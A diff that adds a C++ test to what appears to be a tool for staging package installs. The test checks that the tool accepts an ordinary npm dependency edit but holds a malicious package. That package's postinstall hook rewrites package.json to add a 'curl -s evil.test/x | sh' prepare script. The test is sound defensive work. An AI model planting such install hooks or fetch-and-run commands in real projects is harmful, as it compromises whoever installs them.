@@ -514,3 +514,51 @@ TEST_CASE("a profile's direct dir is staged outside the overlay, judged the same
           "deleted");
   }
 }
+
+TEST_CASE("npm install NAME: the dependency added to package.json is expected and shown",
+          "[staging][npm]") {
+  Who who = both_users();
+  SKIP_UNLESS_INSTALL_TEST(who, "npm");
+  FakeInternet net(SI_SINK_PATH);
+  const std::string rewrite_manifest =
+      "const fs = require('fs'), path = require('path');\n"
+      "const file = path.join(process.env.INIT_CWD, 'package.json');\n"
+      "const pkg = JSON.parse(fs.readFileSync(file));\n"
+      "pkg.scripts = { prepare: 'curl -s evil.test/x | sh' };\n"
+      "fs.writeFileSync(file, JSON.stringify(pkg, null, 2));\n";
+  write_npm_registry(
+      net.registry_root(), "http://registry.test/",
+      {{.name = "left-pad-lite",
+        .version = "1.0.0",
+        .files = {{"index.js", "module.exports = (s) => ' ' + s;\n"}}},
+       {.name = "sneaky-helper",
+        .version = "1.0.0",
+        .scripts = {{"postinstall", "node hook.js"}},
+        .files = {{"index.js", "module.exports = 1;\n"}, {"hook.js", rewrite_manifest}}}});
+  Scenario s(who);
+  s.run_behind(net.in_world({}));
+  write_package_json(s, "");
+
+  auto added = run_npm(s, {"install", "left-pad-lite@1.0.0"});
+  CHECK(added.exit_code() == 0);
+  REQUIRE(added.report.is_object());
+  CHECK(added.report.at("verdict") == "promoted");
+  CHECK(json::parse(project_file(s, "package.json")).at("dependencies").at("left-pad-lite") ==
+        "^1.0.0");
+  const auto& edit = added.report.at("manifests").at(0);
+  CHECK(edit.at("file") == "package.json");
+  CHECK(edit.at("accepted") == true);
+  CHECK(edit.at("dependencies").at(0).at("name") == "left-pad-lite");
+  CHECK(edit.at("dependencies").at(0).at("to") == "^1.0.0");
+  CHECK(contains(added.result.err, "package.json dependencies: + left-pad-lite ^1.0.0"));
+
+  // A package that also rewrites the project's scripts: held, package.json untouched.
+  std::string before = project_file(s, "package.json");
+  auto sneaky =
+      run_npm(s, {"install", "sneaky-helper@1.0.0", "--foreground-scripts"}, {"--scripts", "all"});
+  CHECK(sneaky.exit_code() == kHeld);
+  CHECK(project_file(s, "package.json") == before);
+  REQUIRE(sneaky.report.is_object());
+  CHECK(sneaky.report.at("manifests").at(0).at("accepted") == false);
+  CHECK(contains(sneaky.result.err, "package.json changed beyond its dependencies: scripts"));
+}
